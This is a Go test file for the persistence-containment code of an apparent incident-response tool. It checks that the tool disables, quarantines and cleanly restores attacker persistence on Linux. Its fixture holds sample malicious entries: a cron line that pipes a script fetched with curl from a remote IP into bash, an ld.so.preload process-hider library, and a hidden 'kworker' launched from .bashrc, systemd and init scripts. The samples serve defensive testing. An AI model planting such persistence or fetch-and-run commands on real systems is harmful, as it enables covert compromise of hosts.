package persist

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/vigil-ir/vigil/internal/contain"
	"github.com/vigil-ir/vigil/internal/contain/hostfs"
	"github.com/vigil-ir/vigil/internal/contain/quarantine"
	"github.com/vigil-ir/vigil/internal/store"
	"github.com/vigil-ir/vigil/internal/testutil"
)

const fixture = `
-- etc/cron.d/php-sessionclean2 --
# keep php sessions clean
*/5 * * * * root curl -fsSL http://203.0.113.7/x.sh | bash
09,39 * * * * root [ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean
-- etc/ld.so.preload --
/usr/local/lib/libprocesshider.so
-- root/.bashrc --
alias ls='ls --color=auto'
(nohup /var/tmp/.x/kworker >/dev/null 2>&1 &)
-- etc/systemd/system/kworker.service --
[Service]
ExecStart=/var/tmp/.x/kworker
-- etc/systemd/system/multi-user.target.wants/kworker.service -> /etc/systemd/system/kworker.service --
-- etc/systemd/system/multi-user.target.wants/ssh.service -> /lib/systemd/system/ssh.service --
-- etc/init.d/netmon mode=0755 --
#!/bin/sh
/var/tmp/.x/kworker
-- etc/rc2.d/S02netmon -> ../init.d/netmon --
-- etc/rc3.d/S02netmon -> /etc/init.d/netmon --
-- etc/rc2.d/S01ssh -> ../init.d/ssh --
`

type env struct {
	root string
	t    contain.Target
	r    *contain.Runner
	q    string
}

func newEnv(t *testing.T) *env {
	t.Helper()
	if os.Geteuid() != 0 {
		t.Skip("keeps owners: needs root")
	}
	ctx := context.Background()
	root := testutil.RootFromString(t, fixture)
	dir := t.TempDir()
	st, err := store.Open(ctx, filepath.Join(dir, "v.db"), store.Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	lookup := func(n string) (contain.Kind, bool) {
		switch n {
		case LineKind:
			return LineAction{}, true
		case quarantine.KindName:
			return quarantine.Kind{}, true
		}
		return nil, false
	}
	r, err := contain.Open(ctx, st, lookup, store.Actor{User: "root"}, contain.LockPath(filepath.Join(dir, "v.db")), time.Second)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { r.Close() })
	return &env{root: root, t: contain.Target{Root: root}, r: r, q: filepath.Join(dir, "quarantine")}
}

func (e *env) read(t *testing.T, p string) string {
	b, err := os.ReadFile(filepath.Join(e.root, p))
	if err != nil {
		return "<" + err.Error() + ">"
	}
	return string(b)
}

func TestDisableLine(t *testing.T) {
	ctx := context.Background()
	for _, tc := range []struct {
		path    string
		line    int
		gone    string // text that must no longer be an active line
		comment bool
	}{
		{"/etc/cron.d/php-sessionclean2", 2, "*/5 * * * * root curl", true},
		{"/etc/cron.d/php-sessionclean2", 3, "09,39 * * * * root", true},
		{"/root/.bashrc", 2, "(nohup /var/tmp/.x/kworker", true},
		{"/etc/ld.so.preload", 1, "/usr/local/lib/libprocesshider.so", false},
	} {
		t.Run(tc.path, func(t *testing.T) {
			e := newEnv(t)
			hp := filepath.Join(e.root, tc.path)
			os.Chown(hp, 0, 0)
			os.Chmod(hp, 0o600)
			orig := e.read(t, tc.path)
			before, _ := hostfs.Capture(hp)
			a, err := PlanLine(e.t, tc.path, tc.line)
			if err != nil {
				t.Fatal(err)
			}
			out := e.r.Apply(ctx, a)
			if out.Err != nil {
				t.Fatal(out.Err)
			}
			now := e.read(t, tc.path)
			for _, l := range strings.Split(now, "\n") {
				if strings.HasPrefix(l, tc.gone) {
					t.Errorf("line still active: %q", l)
				}
			}
			if strings.Contains(now, Marker) != tc.comment {
				t.Errorf("commented %v, want %v:\n%s", !tc.comment, tc.comment, now)
			}
			if fi, _ := os.Stat(hp); fi.Mode().Perm() != 0o600 {
				t.Errorf("mode changed to %v", fi.Mode())
			}
			if o := e.r.Undo(ctx, out.ID); o.Err != nil {
				t.Fatal(o.Err)
			}
			after, _ := hostfs.Capture(hp)
			if e.read(t, tc.path) != orig || len(hostfs.Same(before, after)) > 0 {
				t.Errorf("undo did not restore byte for byte: %v\n%s", hostfs.Same(before, after), e.read(t, tc.path))
			}
		})
	}
}

func TestDisableLineRefusals(t *testing.T) {
	e := newEnv(t)
	for _, tc := range []struct {
		path string
		line int
	}{
		{"/etc/cron.d/php-sessionclean2", 1}, // a comment
		{"/etc/cron.d/php-sessionclean2", 9}, // no such line
		{"/etc/rc2.d/S02netmon", 1},          // a symlink
		{"/etc/cron.d/missing", 1},           // no file
	} {
		if _, err := PlanLine(e.t, tc.path, tc.line); err == nil {
			t.Errorf("%s:%d planned", tc.path, tc.line)
		}
	}
	// Undo refuses to overwrite a file edited after the action.
	ctx := context.Background()
	a, _ := PlanLine(e.t, "/etc/cron.d/php-sessionclean2", 2)
	out := e.r.Apply(ctx, a)
	os.WriteFile(filepath.Join(e.root, "etc/cron.d/php-sessionclean2"), []byte("edited by the admin\n"), 0o644)
	if o := e.r.Undo(ctx, out.ID); o.Err == nil {
		t.Error("undo overwrote a file changed after the action")
	}
	if e.read(t, "/etc/cron.d/php-sessionclean2") != "edited by the admin\n" {
		t.Error("the admin's edit was lost")
	}
}

func TestDisableUnitAndInitScript(t *testing.T) {
	ctx := context.Background()
	for _, tc := range []struct {
		path  string
		moved []string
		kept  []string
	}{
		{"/etc/systemd/system/kworker.service",
			[]string{"/etc/systemd/system/kworker.service", "/etc/systemd/system/multi-user.target.wants/kworker.service"},
			[]string{"/etc/systemd/system/multi-user.target.wants/ssh.service"}},
		{"/etc/init.d/netmon",
			[]string{"/etc/init.d/netmon", "/etc/rc2.d/S02netmon", "/etc/rc3.d/S02netmon"},
			[]string{"/etc/rc2.d/S01ssh"}},
	} {
		t.Run(tc.path, func(t *testing.T) {
			e := newEnv(t)
			a, err := PlanFile(e.t, e.q, tc.path)
			if err != nil {
				t.Fatal(err)
			}
			if len(a.Plan) != len(tc.moved) {
				t.Fatalf("plan %v", a.Plan)
			}
			out := e.r.Apply(ctx, a)
			if out.Err != nil {
				t.Fatal(out.Err)
			}
			for _, p := range tc.moved {
				if _, err := os.Lstat(filepath.Join(e.root, p)); err == nil {
					t.Errorf("%s still there", p)
				}
			}
			for _, p := range tc.kept {
				if _, err := os.Lstat(filepath.Join(e.root, p)); err != nil {
					t.Errorf("%s was moved", p)
				}
			}
			if o := e.r.Undo(ctx, out.ID); o.Err != nil {
				t.Fatal(o.Err)
			}
			for _, p := range tc.moved {
				if _, err := os.Lstat(filepath.Join(e.root, p)); err != nil {
					t.Errorf("%s not restored", p)
				}
			}
		})
	}
}

func FuzzSplitEdit(f *testing.F) {
	f.Add([]byte("a\nb\r\nc"), 2)
	f.Add([]byte(""), 1)
	f.Fuzz(func(t *testing.T, b []byte, n int) {
		lines := splitLines(b)
		if string(edit(lines, LineParams{}, "u")) != string(b) {
			t.Fatal("splitLines loses bytes")
		}
		if n >= 1 && n <= len(lines) {
			got := edit(lines, LineParams{Lines: []int{n}, Remove: true}, "u")
			if len(got) != len(b)-len(lines[n-1]) {
				t.Fatal("remove took more than the line")
			}
		}
	})
}

func TestDisableSeveralLines(t *testing.T) {
	e := newEnv(t)
	ctx := context.Background()
	orig := e.read(t, "/etc/cron.d/php-sessionclean2")
	a, err := PlanLine(e.t, "/etc/cron.d/php-sessionclean2", 3, 2, 3)
	if err != nil {
		t.Fatal(err)
	}
	out := e.r.Apply(ctx, a)
	if out.Err != nil {
		t.Fatal(out.Err)
	}
	if got := strings.Count(e.read(t, "/etc/cron.d/php-sessionclean2"), Marker); got != 2 {
		t.Errorf("%d lines commented, want 2", got)
	}
	if o := e.r.Undo(ctx, out.ID); o.Err != nil || e.read(t, "/etc/cron.d/php-sessionclean2") != orig {
		t.Errorf("undo: %v", o.Err)
	}
}
